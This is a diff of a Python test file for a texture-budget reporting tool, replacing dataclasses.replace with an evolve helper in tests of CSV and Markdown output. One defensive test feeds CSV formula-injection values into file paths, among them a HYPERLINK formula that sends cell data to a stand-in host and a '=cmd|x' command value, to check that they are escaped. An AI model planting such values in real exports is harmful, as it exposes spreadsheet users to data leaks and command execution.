@@ -202,12 +202,13 @@ def test_csv_quotes_per_rfc4180(scene: Path) -> None:
     import io
     from dataclasses import replace
 
+    from texbudget.model import evolve
     from texbudget.report import csv as csv_report
 
     report = _report(scene)
     tricky = 'rule "a, b"\nsecond line'
     row = report.textures[0]
-    report = replace(report, textures=(replace(row, plan=replace(row.plan, decided_by=tricky)), *report.textures[1:]))
+    report = replace(report, textures=(evolve(row, plan=evolve(row.plan, decided_by=tricky)), *report.textures[1:]))
     text = csv_report.render(report)
     assert '"rule ""a, b""\nsecond line"' in text
     parsed = list(csv_mod.reader(io.StringIO(text, newline="")))
@@ -221,6 +222,7 @@ def test_csv_cells_never_start_a_formula(scene: Path) -> None:
     import io
     from dataclasses import replace
 
+    from texbudget.model import evolve
     from texbudget.report import csv as csv_report
 
     report = _report(scene)
@@ -228,9 +230,9 @@ def test_csv_cells_never_start_a_formula(scene: Path) -> None:
     names = ['=HYPERLINK("https://e.example/?"&A1)', "+1.png", "-x.png", "@sum.png", "\tx.png", "ok=1.png"]
     for i, name in enumerate(names):
         row = rows[i % len(rows)]
-        rows.append(replace(row, facts=replace(row.facts, path=name), plan=replace(row.plan, path=name)))
+        rows.append(evolve(row, facts=evolve(row.facts, path=name), plan=evolve(row.plan, path=name)))
     mesh = report.meshes[0]
-    report = replace(report, textures=tuple(rows), meshes=(replace(mesh, facts=replace(mesh.facts, path="=cmd|x")), *report.meshes[1:]))
+    report = replace(report, textures=tuple(rows), meshes=(evolve(mesh, facts=evolve(mesh.facts, path="=cmd|x")), *report.meshes[1:]))
     parsed = list(csv_mod.DictReader(io.StringIO(csv_report.render(report), newline="")))
     paths = [r["path"] for r in parsed]
     assert paths[len(rows) - len(names):len(rows)] == ["'" + n for n in names[:-1]] + ["ok=1.png"]
@@ -287,11 +289,12 @@ def test_markdown_golden(scene: Path, capsys: pytest.CaptureFixture[str]) -> Non
 def test_markdown_escapes_pipes(scene: Path) -> None:
     from dataclasses import replace
 
+    from texbudget.model import evolve
     from texbudget.report import markdown
 
     report = _report(scene)
     row = report.textures[1]
-    report = replace(report, textures=(report.textures[0], replace(row, plan=replace(row.plan, decided_by="a | b")), *report.textures[2:]))
+    report = replace(report, textures=(report.textures[0], evolve(row, plan=evolve(row.plan, decided_by="a | b")), *report.textures[2:]))
     text = markdown.render(report)
     assert "a \\| b" in text
     for table in _tables(text):
@@ -501,7 +504,7 @@ def test_people_reports_list_the_largest_fixes_and_sum_the_rest(scene: Path) -> 
     first MAX_FIXES_SHOWN and sum the rest on one line; the together line still counts all."""
     from dataclasses import replace
 
-    from texbudget.model import Fix
+    from texbudget.model import Fix, evolve
     from texbudget.report import markdown, text
     from texbudget.units import human_bytes
 
@@ -510,7 +513,7 @@ def test_people_reports_list_the_largest_fixes_and_sum_the_rest(scene: Path) -> 
     shown = text.MAX_FIXES_SHOWN
     many = tuple(Fix("1GB", "compress to BC7_SRGB", f"ui/icon_{i:03}.png", (100 - i) * 1024 * 1024, kind="compress")
                  for i in range(shown + 7))
-    report = replace(report, scenarios=(replace(over, fixes=many),))
+    report = replace(report, scenarios=(evolve(over, fixes=many),))
     rest_mib = sum(100 - i for i in range(shown, shown + 7))
     for out in (text.render(report), markdown.render(report)):
         lines = out.splitlines()
@@ -518,7 +521,7 @@ def test_people_reports_list_the_largest_fixes_and_sum_the_rest(scene: Path) -> 
         assert len(listed) == shown and "ui/icon_000.png" in listed[0] and f"icon_{shown - 1:03}" in listed[-1]
         assert sum(f"… and 7 smaller changes: save {rest_mib}.00 MiB more" in line for line in lines) == 1
         assert sum(f"together: {human_bytes(sum(f.saves_bytes for f in many))}" in line for line in lines) == 1
-    exactly = replace(report, scenarios=(replace(over, fixes=many[:shown]),))
+    exactly = replace(report, scenarios=(evolve(over, fixes=many[:shown]),))
     assert "smaller changes" not in text.render(exactly) + markdown.render(exactly)
 
 
